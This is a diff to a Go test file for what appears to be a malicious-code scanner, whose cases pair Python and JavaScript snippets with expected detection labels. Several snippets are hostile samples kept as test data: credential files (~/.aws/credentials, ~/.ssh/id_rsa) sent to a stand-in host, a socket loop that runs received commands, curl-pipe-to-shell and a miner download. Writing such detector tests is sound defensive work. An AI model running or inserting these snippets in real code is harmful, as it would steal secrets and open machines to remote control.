@@ -43,6 +43,12 @@ func TestPython(t *testing.T) {
 		{"import requests\ncode = requests.get('https://x.example/a.py').text\nexec(code)\n", "fetch-exec"},
 		{"import base64\nexec(base64.b64decode('" + packed + "'))\n", "decode-exec,shell:pipe-to-shell"},
 		{"m = __import__('o' + 's')\nf = getattr(m, 'sys' + 'tem')\nf('\\x63\\x75\\x72\\x6c https://x.example/i.sh|sh')\n", "obfuscated,shell:pipe-to-shell"},
+		// Sinks of other protocols; a network read run; a method called
+		// through self; the walrus.
+		{"import ftplib, os\nk = open(os.path.expanduser('~/.aws/credentials'), 'rb')\nftp = ftplib.FTP('x.example')\nftp.storbinary('STOR a', k)\n", "secret-send"},
+		{"import asyncio\nclass K:\n    async def _execute(self, code):\n        return await asyncio.create_subprocess_shell(code)\n\n    async def run(self):\n        r, w = await asyncio.open_connection(self.host, self.port)\n        while line := await r.readline():\n            w.write(await self._execute(line.decode()))\n", "fetch-exec"},
+		{"import socket, subprocess\ns = socket.socket()\ns.connect(('x.example', 5555))\ncmd = s.recv(4096).decode()\nsubprocess.run(cmd, shell=True)\n", "fetch-exec"},
+		{"import asyncio\nclass K:\n    async def _log(self, line):\n        print(line)\n\n    async def run(self):\n        r, w = await asyncio.open_connection(self.host, self.port)\n        while line := await r.readline():\n            await self._log(line.decode())\n", ""},
 		// A download saved to a file, and that file run.
 		{"import os, subprocess, urllib.request\np = os.path.expanduser('~/.cache/.w')\nurllib.request.urlretrieve('https://x.example/w', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p, '-o', 'pool.x.example:3333'])\n", "fetch-exec"},
 		{"import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/i.sh', '/tmp/i.sh')\nsubprocess.run(['bash', '/tmp/i.sh'])\n", "fetch-exec"},
@@ -84,6 +90,10 @@ func TestPython(t *testing.T) {
 func TestJS(t *testing.T) {
 	packed := base64.StdEncoding.EncodeToString([]byte("require('child_process').exec('curl -s https://x.example/p.sh | sh')"))
 	cases := []struct{ src, want string }{
+		// A credential file's stream piped into a request.
+		{"import { createReadStream } from 'node:fs';\nimport { request } from 'node:https';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { pipeline } from 'node:stream/promises';\nconst req = request(u, { method: 'PUT' });\nawait pipeline(createReadStream(join(homedir(), '.aws', 'credentials')), req);\n", "secret-send"},
+		{"const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\nconst req = https.request('https://x.example/u', {method: 'POST'});\nfs.createReadStream(path.join(os.homedir(), '.ssh', 'id_rsa')).pipe(req);\n", "secret-send"},
+		{"const fs = require('fs'), https = require('https');\nconst req = https.request('https://x.example/u', {method: 'POST'});\nfs.createReadStream('dist/app.zip').pipe(req);\n", ""},
 		// A parenthesised name called: (globalThis as any)[k](...), (0, eval)(...).
 		{"const k = Buffer.from(['ZXZ', 'hbA', '=='].join(''), 'base64').toString();\n(globalThis as any)[k](Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n", "decode-exec,obfuscated"},
 		{"(0, eval)(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n", "decode-exec"},
